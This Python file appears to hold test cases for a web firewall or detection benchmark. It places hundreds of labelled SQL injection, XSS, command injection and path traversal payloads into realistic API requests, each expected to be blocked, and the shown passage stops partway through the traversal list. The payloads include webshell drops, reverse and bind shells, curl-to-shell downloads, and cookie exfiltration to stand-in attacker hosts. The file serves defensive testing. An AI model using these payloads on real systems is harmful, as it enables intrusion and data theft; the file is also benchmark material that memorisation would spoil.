"""Attack cases for heldout23. Payloads are taken from or modelled on:
  sqlmap data/xml/payloads/{error_based,stacked_queries,time_blind}.xml (per-DBMS vectors,
  with [RANDNUM]/[DELIMITER] filled in the way sqlmap renders them), PayloadBox lists,
  commix eval-based/time-based payload builders, dotdotpwn TraversalEngine dot/slash tables,
  0xsobky's polyglot, PortSwigger XSS cheat sheet vectors (Gareth Heyes), PortSwigger's
  server-side prototype pollution research (json spaces / status / exposedHeaders gadgets),
  PayloadsAllTheThings NoSQL page ($where / $function / $expr) and HackTricks bypass pages.
Each payload is placed where a real API takes input."""
import json
from common import q, qs, form, jdump, ua


def _u_escape_quotes(s):
    """JSON body with ' " < > written as \\u escapes (valid JSON, decodes to the payload)."""
    return s.replace("'", "\\u0027").replace("<", "\\u003c").replace(">", "\\u003e")


# ---------------------------------------------------------------------------------------
# SQLi
# ---------------------------------------------------------------------------------------
SQLI = [
    # sqlmap error_based.xml, MySQL
    ("1 AND EXTRACTVALUE(4821,CONCAT(0x5c,0x7176787a71,(SELECT (ELT(4821=4821,1))),0x71627a7171))", "sqlmap error_based MySQL EXTRACTVALUE"),
    ("1 AND UPDATEXML(7315,CONCAT(0x2e,0x7176787a71,(SELECT (ELT(7315=7315,1))),0x71627a7171),2947)", "sqlmap error_based MySQL UPDATEXML"),
    ("1 AND (SELECT 5093 FROM(SELECT COUNT(*),CONCAT(0x7176787a71,(SELECT (ELT(5093=5093,1))),0x71627a7171,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)", "sqlmap error_based MySQL FLOOR"),
    ("1 AND EXP(~(SELECT * FROM (SELECT CONCAT(0x7176787a71,(SELECT (ELT(6612=6612,1))),0x71627a7171,0x78))x))", "sqlmap error_based MySQL EXP"),
    ("1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7176787a71,(SELECT (ELT(2210=2210,1))),0x71627a7171)) USING utf8)))", "sqlmap error_based MySQL JSON_KEYS"),
    ("1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7176787a71,(SELECT (ELT(9931=9931,1))),0x71627a7171,0x78))s), 8446744073709551610, 8446744073709551610)))", "sqlmap error_based MySQL BIGINT"),
    ("1' AND ROW(1447,3920)>(SELECT COUNT(*),CONCAT(0x7176787a71,(SELECT (ELT(1447=1447,1))),0x71627a7171,FLOOR(RAND(0)*2))x FROM (SELECT 7212 UNION SELECT 1209 UNION SELECT 4001 UNION SELECT 5003)a GROUP BY x)-- HaCk", "sqlmap error_based MySQL ROW"),
    # PostgreSQL
    ("1 AND 4510=CAST((CHR(113)||CHR(118)||CHR(120)||CHR(122)||CHR(113))||(SELECT (CASE WHEN (4510=4510) THEN 1 ELSE 0 END))::text||(CHR(113)||CHR(98)||CHR(122)||CHR(113)) AS NUMERIC)", "sqlmap error_based PostgreSQL CAST"),
    ("';SELECT PG_SLEEP(5)--", "sqlmap stacked PostgreSQL"),
    ("1;SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000)--", "sqlmap stacked PostgreSQL heavy"),
    ("1 AND 7745=(SELECT 7745 FROM PG_SLEEP(5))", "sqlmap time_blind PostgreSQL"),
    ("1;SELECT (CASE WHEN (1=1) THEN (SELECT 1 FROM PG_SLEEP(5)) ELSE 1 END)--", "sqlmap stacked PostgreSQL CASE"),
    ("'; COPY (SELECT '') TO PROGRAM 'nslookup x7.oast.example'--", "PostgreSQL COPY TO PROGRAM (HackTricks)"),
    ("' AND 1=CAST((SELECT current_user) AS int)--", "PostgreSQL cast error"),
    # MSSQL
    ("1 AND 3921 IN (SELECT (CHAR(113)+CHAR(118)+CHAR(120)+CHAR(122)+CHAR(113)+(SELECT (CASE WHEN (3921=3921) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)+CHAR(98)+CHAR(113)))", "sqlmap error_based MSSQL IN"),
    ("1 AND 8912=CONVERT(INT,(SELECT CHAR(113)+CHAR(118)+CHAR(120)+(SELECT (CASE WHEN (8912=8912) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)))", "sqlmap error_based MSSQL CONVERT"),
    ("';WAITFOR DELAY '0:0:5'--", "sqlmap stacked MSSQL"),
    ("1;DECLARE @x CHAR(9);SET @x=0x303a303a35;WAITFOR DELAY @x--", "sqlmap stacked MSSQL DECLARE"),
    ("'; EXEC master..xp_cmdshell 'ping -n 5 127.0.0.1'--", "MSSQL xp_cmdshell (PayloadBox)"),
    ("1';EXEC sp_configure 'show advanced options',1;RECONFIGURE--", "MSSQL sp_configure"),
    ("' UNION SELECT NULL,@@version,NULL--", "UNION MSSQL/MySQL"),
    ("1 AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects WHERE xtype='U'),1,1))>64", "MSSQL blind boolean"),
    ("1 AND 5561=CONVERT(INT,(SELECT TOP 1 table_name FROM information_schema.tables))", "MSSQL CONVERT table"),
    # Oracle
    ("1 AND 6123=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||CHR(118)||(SELECT (CASE WHEN (6123=6123) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113)||CHR(62))) FROM DUAL)", "sqlmap error_based Oracle XMLType"),
    ("1 AND 2741=UTL_INADDR.GET_HOST_ADDRESS(CHR(113)||CHR(118)||(SELECT (CASE WHEN (2741=2741) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113))", "sqlmap error_based Oracle UTL_INADDR"),
    ("1 AND 5521=CTXSYS.DRITHSX.SN(5521,(CHR(113)||CHR(118)||(SELECT (CASE WHEN (5521=5521) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113)))", "sqlmap error_based Oracle CTXSYS"),
    ("1 AND 3301=DBMS_UTILITY.SQLID_TO_SQLHASH((CHR(113)||CHR(118)||(SELECT (CASE WHEN (3301=3301) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113)))", "sqlmap error_based Oracle DBMS_UTILITY"),
    ("';SELECT DBMS_PIPE.RECEIVE_MESSAGE('xKzq',5) FROM DUAL--", "sqlmap stacked Oracle DBMS_PIPE"),
    ("1;BEGIN DBMS_LOCK.SLEEP(5); END--", "sqlmap stacked Oracle DBMS_LOCK"),
    ("' UNION SELECT banner,NULL FROM v$version--", "Oracle UNION v$version"),
    ("'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE 'a' END FROM dual)||'", "Oracle conditional error"),
    # SQLite
    ("1 AND 4197=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))", "sqlmap time_blind SQLite RANDOMBLOB"),
    ("' UNION SELECT sql,NULL FROM sqlite_master--", "SQLite sqlite_master"),
    ("1' AND substr((SELECT name FROM sqlite_master WHERE type='table' LIMIT 1),1,1)='u'--", "SQLite blind substr"),
    ("'; ATTACH DATABASE '/var/www/html/lol.php' AS lol; CREATE TABLE lol.pwn (dataz text); INSERT INTO lol.pwn (dataz) VALUES ('<?php system($_GET[\"cmd\"]); ?>');--", "SQLite ATTACH webshell"),
    ("1 AND 1=CASE WHEN (SELECT count(*) FROM sqlite_master)>0 THEN 1 ELSE load_extension(1) END", "SQLite load_extension"),
    # MySQL misc + evasions (PayloadBox, HackTricks WAF bypass)
    ("1'/**/UnIoN/**/SeLeCt/**/1,2,group_concat(table_name)/**/FrOm/**/information_schema.tables--+-", "comment-space mixed case"),
    ("1'/*!50000UNION*//*!50000SELECT*/1,user(),3-- -", "MySQL versioned comments"),
    ("-1' UNION\x0bSELECT 1,2,password FROM users#", "vertical tab whitespace"),
    ("' or 1=1 limit 1 -- -+", "PayloadBox auth bypass"),
    ("' OR 'x'='x", "PayloadBox tautology"),
    ("1) or sleep(5)#", "PayloadBox time"),
    ("' AND SLEEP(5) AND 'a'='a", "sqlmap time_blind MySQL"),
    ("1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL)", "sqlmap time_blind MySQL query SLEEP"),
    ("' RLIKE (SELECT (CASE WHEN (4346=4346) THEN 0x61646d696e ELSE 0x28 END))-- x", "sqlmap boolean RLIKE"),
    ("1 PROCEDURE ANALYSE(EXTRACTVALUE(9627,CONCAT(0x5c,version())),1)", "sqlmap error_based PROCEDURE ANALYSE"),
    ("' AND BENCHMARK(5000000,MD5('a'))-- -", "MySQL BENCHMARK"),
    ("admin' #", "auth bypass hash comment"),
    ("admin')-- -", "auth bypass paren"),
    ("\" OR \"\"=\"", "double-quote tautology"),
    ("1 UNION ALL SELECT NULL,CONCAT(0x717a6b7671,IFNULL(CAST(schema_name AS NCHAR),0x20),0x7162767071),NULL FROM INFORMATION_SCHEMA.SCHEMATA-- -", "sqlmap UNION enumeration"),
    ("1' ORDER BY 3--+", "ORDER BY column probe"),
    ("' HAVING 1=1--", "HAVING error probe"),
    ("'; INSERT INTO users (username,password,role) VALUES ('eve','x','admin')--", "stacked INSERT"),
    ("'; DROP TABLE sessions; --", "stacked DROP"),
    ("1; UPDATE users SET role='admin' WHERE id=1--", "stacked UPDATE"),
    ("%' AND 1=0 UNION SELECT table_name FROM information_schema.tables WHERE '%'='", "LIKE-context UNION"),
    ("name ASC, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)", "ORDER BY subquery"),
    ("(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a' THEN created_at ELSE id END)", "ORDER BY CASE blind"),
    ("1 uNiOn aLl sElEcT 1,load_file('/etc/passwd'),3", "load_file mixed case"),
    ("' UNION SELECT 1,'<?php system($_GET[c]);?>',3 INTO OUTFILE '/var/www/html/s.php'-- -", "INTO OUTFILE"),
    ("' AnD 1=0 UnIoN SeLeCt NuLl,NuLl,@@version#", "mixed case NULL union"),
    ("1'\tAND\t1=0\tUNION\tSELECT\tusername,password\tFROM\tusers--", "tab whitespace"),
    ("1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -", "double query error"),
    ("1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--", "PostgreSQL conditional sleep"),
    ("'+(SELECT 1 WHERE 1=1 AND SLEEP(5))+'", "string concat sleep"),
    ("1 OR 3*2*1=6 AND 000958=000958", "arith tautology"),
    ("' OR 1=1 INTO @a-- -", "tautology INTO var"),
    ("1' AND GTID_SUBSET(CONCAT(0x7176787a71,(SELECT (ELT(8123=8123,1))),0x71627a7171),8123)-- -", "sqlmap error_based MySQL GTID_SUBSET"),
    ("1 AND 9581=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5)", "sqlmap time_blind Oracle heavy"),
    ("'; SELECT * FROM OPENROWSET('SQLOLEDB','server=10.0.0.5;uid=sa;pwd=sa','SELECT 1')--", "MSSQL OPENROWSET"),
    ("1 AND 1=(SELECT 1 FROM dual WHERE 1=1 AND ORD(MID((SELECT IFNULL(CAST(password AS NCHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64)", "sqlmap boolean ORD/MID"),
]


def sqli_cases(C):
    ctx = 0
    for i, (p, src) in enumerate(SQLI):
        n = "sqli: " + src
        k = i % 14
        if k == 0:
            C.get("sqli", "block", "/api/v2/products", [("category_id", p), ("limit", "20")], note=n)
        elif k == 1:
            C.json("sqli", "block", "POST", "/api/v1/auth/login", {"username": p, "password": "hunter2", "remember": True}, note=n)
        elif k == 2:
            C.get("sqli", "block", "/api/v1/orders", [("status", "paid"), ("sort", p)], note=n)
        elif k == 3:
            C.form("sqli", "block", "POST", "/account/login", [("email", "a@b.co"), ("password", p), ("csrf_token", "9f2c1e77ab")], note=n)
        elif k == 4:
            C.json("sqli", "block", "POST", "/api/v3/search", {"query": {"filters": [{"field": "brand", "op": "eq", "value": p}]}, "page": 1}, note=n)
        elif k == 5:
            C.add("sqli", "block", "GET", "/api/v1/stores/nearby", {"Accept": "application/json", "X-Forwarded-For": p.replace("\t", " ").replace("\x0b", " ")}, "", "header", note=n)
        elif k == 6:
            C.add("sqli", "block", "GET", "/api/v1/cart", {"Accept": "application/json", "Cookie": "cart_id=" + q(p) + "; theme=dark"}, "", "cookie", note=n)
        elif k == 7:
            C.add("sqli", "block", "GET", "/api/v1/invoices/" + q(p) + "/pdf", {"Accept": "application/pdf"}, "", "path", note=n)
        elif k == 8:
            C.multipart("sqli", "block", "POST", "/api/v1/imports", [("account_ref", p), ("file", "sku,qty\nA-1,2\n", "stock.csv", "text/csv")], note=n)
        elif k == 9:
            C.json("sqli", "block", "PATCH", "/api/v1/users/me", {"profile": {"display_name": "Sam", "timezone": p}}, note=n)
        elif k == 10:
            # double URL encoding in query
            C.add("sqli", "block", "GET", "/api/v1/reports?from=2024-01-01&region=" + q(q(p)), {"Accept": "application/json"}, "", "query", note=n + " (double URL-encoded)")
        elif k == 11:
            C.json("sqli", "block", "POST", "/graphql", {"query": "query($id: ID!){ order(id: $id){ id total } }", "variables": {"id": p}}, note=n)
        elif k == 12:
            C.add("sqli", "block", "GET", "/api/v1/articles?page=2", {"Accept": "text/html", "Referer": "https://shop.example.test/list?ref=" + q(p), "User-Agent": ua(0)}, "", "header", note=n)
        else:
            body = jdump({"items": [{"sku": "TSHIRT-01", "qty": 1}, {"sku": p, "qty": 2}], "coupon": ""})
            C.json("sqli", "block", "POST", "/api/v1/checkout/quote", None, raw=_u_escape_quotes(body), note=n + " (JSON \\u escapes)")


# ---------------------------------------------------------------------------------------
# XSS
# ---------------------------------------------------------------------------------------
XSS = [
    ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e", "0xsobky polyglot"),
    ("javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", "Gareth Heyes polyglot"),
    ("'\">><marquee><img src=x onerror=confirm(1)></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>", "Ashar Javed polyglot (part)"),
    ("<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationend=\"alert(1)\"></xss>", "PortSwigger cheat sheet onanimationend"),
    ("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "PortSwigger animate onbegin"),
    ("<a href=\"javascript&colon;alert(document.domain)\">x</a>", "entity colon javascript"),
    ("<details open ontoggle=alert(1)>", "details ontoggle"),
    ("<xss onpointerenter=alert(1)>hover</xss>", "custom tag pointer event"),
    ("<input autofocus onfocus=alert(document.cookie)>", "autofocus"),
    ("<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>", "srcdoc entity"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "mXSS mglyph"),
    ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "mXSS noscript"),
    ("<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">link</a>", "decimal entity javascript"),
    ("<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>", "base64 eval"),
    ("<svg/onload=location='javas'+'cript:alert(1)'>", "concat scheme"),
    ("<body onpageshow=alert(1)>", "onpageshow"),
    ("<video><source onerror=alert(1)>", "video source onerror"),
    ("<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>", "object data uri"),
    ("<embed src=\"javascript:alert(1)\">", "embed javascript"),
    ("<form><button formaction=javascript:alert(1)>Submit</button></form>", "formaction"),
    ("<marquee onstart=alert(1)>", "marquee onstart"),
    ("\"><img src=x onerror=prompt(document.domain)>", "attribute breakout"),
    ("'-alert(1)-'", "JS string breakout"),
    ("</script><script>alert(1)</script>", "script breakout"),
    ("javascript:alert(document.cookie)", "javascript URL in link field"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", "nested tag strip bypass"),
    ("<IMG SRC=JaVaScRiPt:alert('XSS')>", "PayloadBox mixed case IMG"),
    ("<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">", "PayloadBox malformed IMG"),
    ("<SCRIPT SRC=//xss.rocks/.j></SCRIPT>", "PayloadBox remote script"),
    ("<BODY BACKGROUND=\"javascript:alert('XSS')\">", "PayloadBox body background"),
    ("<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">", "PayloadBox style url"),
    ("<svg><script>alert&#40;1&#41;</script>", "svg script entity parens"),
    ("<svg><set attributeName=href onbegin=alert(1)>", "svg set onbegin"),
    ("<img src=1 onerror=window['al'+'ert'](1)>", "bracket concat"),
    ("<img src=x:x onerror=top[8680439..toString(30)](1)>", "toString(30) alert"),
    ("{{constructor.constructor('alert(1)')()}}", "AngularJS sandbox escape (CSTI)"),
    ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "tab entity in scheme"),
    ("<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;(1)\">", "hex entity handler"),
    ("<svg onload=alert&lpar;1&rpar;>", "named entity parens"),
    ("<iframe src=javascript:alert(1)>", "iframe javascript"),
    ("<img src=x onerror=fetch('https://attacker.example/?c='+document.cookie)>", "cookie exfil fetch"),
    ("<script>new Image().src=\"//evil.example/c?\"+document.cookie</script>", "cookie exfil image"),
    ("<img src=\"x\" onerror=\"eval(String.fromCharCode(97,108,101,114,116,40,49,41))\">", "fromCharCode"),
    ("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "meta refresh"),
    ("<textarea autofocus onfocus=alert(1)>", "textarea autofocus"),
    ("<select autofocus onfocus=alert(1)>", "select autofocus"),
    ("<div draggable=true ondragstart=alert(1)>drag me</div>", "ondragstart"),
    ("<xss onfocus=alert(1) autofocus tabindex=1>", "custom tag tabindex"),
    ("<svg><a><rect width=100% height=100% /><animate attributeName=href values=javascript:alert(1) /></a></svg>", "svg animate href"),
    ("<img/src/onerror=alert(1)>", "slash separators"),
    ("<svg\nonload=alert(1)>", "newline separator"),
    ("<svg\tonload=alert(1)>", "tab separator"),
    ("<img src=x onerror=alert(1)//", "unterminated tag"),
    ("<a href=# onclick=\"alert(1)\">click</a>", "onclick"),
    ("<script type=module>import('//evil.example/x.js')</script>", "dynamic import"),
    ("<x contenteditable onblur=alert(1)>lose focus!</x>", "contenteditable onblur"),
    ("<audio src onloadstart=alert(1)>", "audio onloadstart"),
    ("<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>", "foreignObject srcdoc"),
    ("<img src=x onerror=alert(1)>", "basic img onerror"),
    ("<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>", "mixed case script"),
    ("<svg onload=setTimeout`alert\\x281\\x29`>", "template literal setTimeout"),
    ("<img src=x onerror=\"javascript:/*\\*/alert(1)\">", "comment in handler"),
    ("<body onload=alert('XSS')>", "body onload"),
    ("<link rel=stylesheet href=\"javascript:alert(1)\">", "link javascript"),
    ("<table background=\"javascript:alert(1)\">", "table background"),
    ("<isindex type=image src=1 onerror=alert(1)>", "isindex"),
    ("<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x\" /></svg>", "svg use data uri"),
    ("<base href=\"javascript:/a/-alert(1)///////\"><a href=../lol/safari.html>test</a>", "base href javascript"),
    ("<img src=\"/\" =_=\" title=\"onerror='prompt(1)'\">", "attribute confusion"),
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", "svg style mXSS"),
]


def xss_cases(C):
    for i, (p, src) in enumerate(XSS):
        n = "xss: " + src
        k = i % 13
        if k == 0:
            C.json("xss", "block", "POST", "/api/v1/posts/8812/comments", {"body": p, "parent_id": None}, note=n)
        elif k == 1:
            C.get("xss", "block", "/search", [("q", p), ("lang", "en")], note=n)
        elif k == 2:
            C.json("xss", "block", "PATCH", "/api/v2/profile", {"display_name": p, "bio": "Coffee, cats and code."}, note=n)
        elif k == 3:
            C.form("xss", "block", "POST", "/contact", [("name", "Dana"), ("email", "dana@example.org"), ("message", p)], note=n)
        elif k == 4:
            C.json("xss", "block", "POST", "/api/v1/products/TSHIRT-01/reviews", {"rating": 5, "title": "Great fit", "text": p}, note=n)
        elif k == 5:
            C.add("xss", "block", "GET", "/api/v1/analytics/pageview", {"Accept": "*/*", "Referer": "https://blog.example.test/?q=" + p.replace("\n", " ").replace("\t", " "), "User-Agent": ua(1)}, "", "header", note=n)
        elif k == 6:
            C.add("xss", "block", "GET", "/dashboard", {"Accept": "text/html", "Cookie": "last_search=" + q(p) + "; sid=2b7e1516"}, "", "cookie", note=n)
        elif k == 7:
            C.multipart("xss", "block", "POST", "/api/v1/media", [("caption", p), ("file", "GIF89a", "cat.gif", "image/gif")], note=n)
        elif k == 8:
            C.json("xss", "block", "POST", "/api/v1/tickets", {"subject": "Order missing", "customer": {"name": p, "email": "x@example.org"}, "tags": ["shipping"]}, note=n)
        elif k == 9:
            C.add("xss", "block", "GET", "/w/" + q(p), {"Accept": "text/html"}, "", "path", note=n)
        elif k == 10:
            C.json("xss", "block", "POST", "/api/v1/chat/messages", None, raw=_u_escape_quotes(jdump({"channel": "general", "text": p})), note=n + " (JSON \\u escapes)")
        elif k == 11:
            C.add("xss", "block", "GET", "/api/v1/redirect?next=" + q(q(p)), {"Accept": "text/html"}, "", "query", note=n + " (double URL-encoded)")
        else:
            C.json("xss", "block", "PUT", "/api/v1/cms/pages/about", {"title": "About us", "blocks": [{"type": "paragraph", "html": "<p>Welcome</p>"}, {"type": "html", "html": p}]}, note=n)


# ---------------------------------------------------------------------------------------
# Command injection
# ---------------------------------------------------------------------------------------
CMDI = [
    (";id;", "PayloadBox unix"),
    ("|/usr/bin/id|", "PayloadBox unix"),
    ("`/usr/bin/id`", "PayloadBox backticks"),
    ("a);/usr/bin/id;", "PayloadBox paren close"),
    ("127.0.0.1\n/usr/bin/id\n", "PayloadBox newline"),
    ("& ping -i 30 127.0.0.1 &", "PayloadBox ping"),
    ("$(`cat /etc/passwd`)", "PayloadBox subshell"),
    ("; nc -lvvp 4444 -e /bin/sh;", "PayloadBox bind shell"),
    ("&& curl https://rce.example/.testing/rce_vuln.txt", "PayloadBox curl"),
    ("| net localgroup Administrators hacker /ADD", "PayloadBox windows"),
    ("& netsh firewall set opmode disable", "PayloadBox windows netsh"),
    ("; echo \"<?php system($_GET['cmd']); ?>\" > cmd.php", "PayloadBox webshell drop"),
    ("() { :;}; /bin/bash -c \"curl http://198.51.100.7/.testing/shellshock.txt?vuln=16?user=`whoami`\"", "PayloadBox shellshock"),
    (";str=$(echo KSQOYF);str1=${#str};if [ 6 -eq ${str1} ];then sleep 5;fi", "commix time-based ; separator"),
    ("%0astr=$(echo KSQOYF)%0astr1=${#str}%0aif [ 6 -eq ${str1} ]%0athen sleep 5%0afi", "commix time-based %0a separator"),
    ("&sleep 0 && str=$(echo KSQOYF) && str1=${#str} && [ 6 -eq ${str1} ] && sleep 5", "commix time-based && separator"),
    ("|[ 6 -ne $(echo KSQOYF |tr -d '\\n' |wc -c) ] || sleep 5", "commix time-based || separator"),
    ("|for /f \"tokens=*\" %i in ('cmd /c \"powershell.exe -InputFormat none write 'KSQOYF'.length\"') do if %i==6 cmd /c \"powershell.exe -InputFormat none Start-Sleep -s 11\"", "commix time-based windows"),
    ("print(`echo UYHDXR;echo $((41+77));echo UYHDXR;echo UYHDXR`);", "commix eval-based decision"),
    ("print(`echo UYHDXR`.`id`.`echo UYHDXR`)", "commix eval-based cmd execution"),
    ("';str=$(python3 -c \"print(len('KSQOYF'))\");if [ 6 -eq ${str} ];then $(python3 -c \"import time\ntime.sleep(5)\");fi;'", "commix alter-shell python"),
    (";cat${IFS}/etc/passwd", "HackTricks IFS"),
    (";{cat,/etc/passwd}", "HackTricks brace expansion"),
    ("127.0.0.1;{ping,-c,5,127.0.0.1}", "HackTricks brace ping"),
    (";/???/c?t /???/p?ss??", "HackTricks globbing"),
    (";$'\\x63\\x61\\x74' /etc/passwd", "HackTricks hex ANSI-C quoting"),
    (";$'\\143\\141\\164' /etc/shadow", "HackTricks octal ANSI-C quoting"),
    (";c''a''t /e\"\"tc/pa\"\"sswd", "HackTricks quote splitting"),
    ("|w\\ho\\am\\i", "HackTricks backslash splitting"),
    (";a=c;b=at;$a$b /etc/passwd", "HackTricks variable concat"),
    (";cat$u /etc$u/passwd$u", "HackTricks empty var"),
    (";/bin/c[a]t /etc/pass[w]d", "HackTricks char class glob"),
    (";{echo,aWQ=}|{base64,-d}|bash", "HackTricks base64 brace"),
    (";echo${IFS}YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE=|base64${IFS}-d|bash", "base64 reverse shell"),
    ("$(rev<<<'imaohw')", "HackTricks rev"),
    (";tail$IFS-n1$IFS/etc/shadow", "HackTricks $IFS"),
    (";X=$'cat\\x20/etc/passwd'&&$X", "HackTricks ANSI-C variable"),
    ("& ^w^h^o^a^m^i", "HackTricks cmd caret"),
    ("& %COMSPEC% /c type C:\\Windows\\win.ini", "Windows COMSPEC"),
    ("| powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "PowerShell encoded"),
    ("& type C:\\inetpub\\wwwroot\\web.config", "Windows type"),
    ("$(curl -s http://x9.oast.example/$(whoami))", "OOB curl"),
    (";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse shell"),
    ("||curl${IFS}http://10.0.0.1/s.sh|sh", "curl pipe sh"),
    (";perl -e 'print `id`'", "perl"),
    (";python3 -c 'import os;os.system(\"id\")'", "python"),
    (";php -r 'system(\"id\");'", "php -r"),
    ("| nslookup $(whoami).x9.oast.example", "DNS exfil"),
    (";sleep 10 #", "sleep"),
    ("<!--#exec cmd=\"/bin/cat /etc/passwd\"-->", "PayloadBox SSI"),
    (";system('cat /etc/passwd');", "PayloadBox PHP system"),
    ("x; wget -qO- http://203.0.113.9/x | sh", "wget pipe sh"),
    ("$(id>/tmp/p)", "subshell write"),
    (";cat /e?c/p?s?w?", "glob ?"),
    ("`ls -la /var/www`", "backtick ls"),
    ("127.0.0.1 && ping -c 10 127.0.0.1", "ping chain"),
    ("%0a/usr/bin/id%0a", "encoded newline literal"),
    ("; echo INJECTX; exit; sleep 5", "PayloadBox INJECTX"),
    ("|| ipconfig /all", "Windows ipconfig"),
    ("' ; id #", "quote break then cmd"),
]


def cmdi_cases(C):
    from urllib.parse import unquote
    for i, (p, src) in enumerate(CMDI):
        n = "cmdi: " + src
        if "%0a" in p:
            p = unquote(p)  # commix / PayloadBox write the newline separator URL-encoded
        k = i % 12
        if k == 0:
            C.json("cmdi", "block", "POST", "/api/v1/network/diagnostics/ping", {"host": "10.0.0.12" + p if not p[0].isalnum() else p, "count": 4}, note=n)
        elif k == 1:
            C.get("cmdi", "block", "/api/v1/tools/dns", [("domain", "example.com" + p)], note=n)
        elif k == 2:
            C.json("cmdi", "block", "POST", "/api/v1/images/convert", {"source": "uploads/2024/06/photo.jpg", "output_name": "thumb" + p, "width": 320}, note=n)
        elif k == 3:
            C.form("cmdi", "block", "POST", "/admin/backup", [("archive_name", "nightly" + p), ("compress", "gzip")], note=n)
        elif k == 4:
            C.json("cmdi", "block", "POST", "/api/v1/repos/import", {"clone_url": "https://git.example.test/team/app.git", "branch": "main" + p}, note=n)
        elif k == 5:
            hv = p.replace("\n", " ")
            C.add("cmdi", "block", "GET", "/cgi-bin/status", {"Accept": "*/*", "User-Agent": hv}, "", "header", note=n)
        elif k == 6:
            C.add("cmdi", "block", "GET", "/api/v1/export", {"Accept": "text/csv", "Cookie": "export_fmt=" + q("csv" + p) + "; locale=en_US"}, "", "cookie", note=n)
        elif k == 7:
            C.multipart("cmdi", "block", "POST", "/api/v1/documents/pdf", [("title", "Quarterly report"), ("file", "%PDF-1.4\n%", "report" + p.replace("\"", "'").replace("\n", " ") + ".pdf", "application/pdf")], note=n)
        elif k == 8:
            C.get("cmdi", "block", "/api/v1/whois", [("ip", "8.8.8.8" + p)], note=n)
        elif k == 9:
            C.add("cmdi", "block", "GET", "/api/v1/logs/tail/" + q("app.log" + p), {"Accept": "text/plain"}, "", "path", note=n)
        elif k == 10:
            C.json("cmdi", "block", "PUT", "/api/v1/devices/rtr-7/config", {"hostname": "edge-rtr-7" + p, "ntp": ["0.pool.ntp.org"]}, note=n)
        else:
            C.add("cmdi", "block", "GET", "/api/v1/mail/verify?address=" + q(q("ops@example.com" + p)), {"Accept": "application/json"}, "", "query", note=n + " (double URL-encoded)")


# ---------------------------------------------------------------------------------------
# Path traversal (dotdotpwn TraversalEngine dot/slash tables and special patterns)
# values are written as they appear on the wire (already encoded where the pattern is an encoding)
# ---------------------------------------------------------------------------------------
TRAV = [
    ("..%2f..%2f..%2f..%2fetc%2fpasswd", "dotdotpwn .. + %2f"),
    ("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "dotdotpwn %2e%2e + %2f"),
    ("%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd", "dotdotpwn double-encoded"),
    ("..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "dotdotpwn overlong %c0%af"),
    ("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "dotdotpwn overlong dots"),
    ("..%5c..%5c..%5c..%5cboot.ini", "dotdotpwn %5c windows"),
    ("..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts", "dotdotpwn windows hosts"),
